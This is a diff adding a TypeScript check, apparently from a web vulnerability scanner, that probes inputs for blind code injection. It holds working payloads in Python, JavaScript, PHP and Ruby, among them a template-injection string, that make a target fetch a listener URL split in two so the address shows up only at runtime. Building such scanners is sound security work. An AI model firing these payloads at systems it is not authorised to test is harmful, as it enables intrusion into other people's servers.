@@ -1,0 +1,56 @@
+// Code that a value becomes a part of where nothing of it is shown: it calls an address that only running it puts together.
+
+import type { PointCheck } from '../check.ts'
+import { isSettled, settle } from '../found.ts'
+import { type CallAddress, expectCall, takesText, textValue } from '../probing.ts'
+import { code } from './templates.ts'
+
+/** The address in two halves: what follows addresses in texts finds a token that nobody waits for. */
+type Halves = { first: string; second: string }
+
+const halvesOf = ({ host, token }: CallAddress): Halves => ({
+  first: `http://${host}/${token.slice(0, 9)}`,
+  second: token.slice(9),
+})
+
+const ofPython = ({ first, second }: Halves) =>
+  `__import__('urllib.request',fromlist=['x']).urlopen('${first}'+'${second}')`
+const ofNode = ({ first, second }: Halves) => `fetch('${first}'+'${second}')`
+const ofPhp = ({ first, second }: Halves) => `file_get_contents('${first}'.'${second}')`
+const ofRuby = ({ first, second }: Halves) => `(require 'net/http';Net::HTTP.get(URI('${first}'+'${second}')))`
+
+const payloads: readonly { language: string; of: (text: string, halves: Halves) => string }[] = [
+  { language: 'Python', of: (_, halves) => ofPython(halves) },
+  { language: 'Python', of: (text, halves) => `${text}'+str(${ofPython(halves)})+'` },
+  { language: 'Python', of: (_, halves) => `{{cycler.__init__.__globals__.__builtins__.${ofPython(halves)}}}` },
+  { language: 'JavaScript', of: (_, halves) => ofNode(halves) },
+  { language: 'JavaScript', of: (text, halves) => `${text}'+${ofNode(halves)}+'` },
+  { language: 'PHP', of: (_, halves) => `${ofPhp(halves)};` },
+  { language: 'PHP', of: (text, halves) => `${text}'.${ofPhp(halves)}.'` },
+  { language: 'Ruby', of: (_, halves) => ofRuby(halves) },
+]
+
+export const silentCode: PointCheck = {
+  ...code,
+  id: 'silent-code-injection',
+  title: 'Code injection',
+  usesListener: true,
+  accepts: takesText,
+  async probe(point, operation, context) {
+    if (context.outOfBand === null || isSettled(94, operation, point, context)) return null
+    for (const { language, of } of payloads) {
+      const isHit = await expectCall(
+        operation,
+        context,
+        (address) => context.attempt(operation, [{ point, value: of(textValue(point), halvesOf(address)) }]),
+        (exchange, url) => {
+          settle(94, operation, point, context)
+          const detail = `${language} ran the value: the target called an address that stands in it in two halves.`
+          context.report(silentCode, { operation, point, detail, proof: [url], exchange })
+        },
+      )
+      if (isHit) return null
+    }
+    return null
+  },
+}
